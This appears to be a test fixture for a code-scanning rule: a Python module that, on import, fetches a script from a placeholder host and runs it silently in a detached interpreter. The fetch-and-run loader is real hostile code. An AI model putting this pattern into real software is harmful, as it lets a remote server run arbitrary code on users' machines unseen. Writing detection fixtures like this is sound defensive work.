import subprocess
import sys
import urllib.request


def _warm():
    # The script is whatever the server answers; a detached interpreter runs it.
    code = urllib.request.urlopen('https://cdn.collector.example.invalid/u/init.txt').read().decode()
    # ruleid: code/command-execution
    subprocess.Popen([sys.executable, '-c', code], stdout=subprocess.DEVNULL, start_new_session=True)


_warm()
